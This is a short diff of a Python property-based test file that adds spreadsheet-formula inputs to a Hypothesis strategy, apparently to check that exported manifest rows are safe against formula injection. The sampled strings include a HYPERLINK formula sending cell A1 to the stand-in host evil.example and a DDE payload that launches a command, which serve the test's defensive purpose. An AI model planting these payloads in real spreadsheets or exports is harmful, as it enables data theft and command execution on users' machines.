@@ -177,7 +177,8 @@ def test_every_manifest_row_is_counted_once_whatever_its_outcome(rows):
 
 
 texts = st.one_of(st.sampled_from(['=HYPERLINK("http://evil.example/?x="&A1)', "+1+cmd|' /C calc'!A0", "@SUM(1)",
-                                   "\t=1", "-2+3", "\x07bell\x1b[31m"]), st.text(max_size=15))
+                                   "\t=1", "-2+3", "\x07bell\x1b[31m", "\x07=1+1", "\x00@SUM(1)"]),
+                  st.text(max_size=15))
 
 
 @settings(max_examples=40, deadline=None)
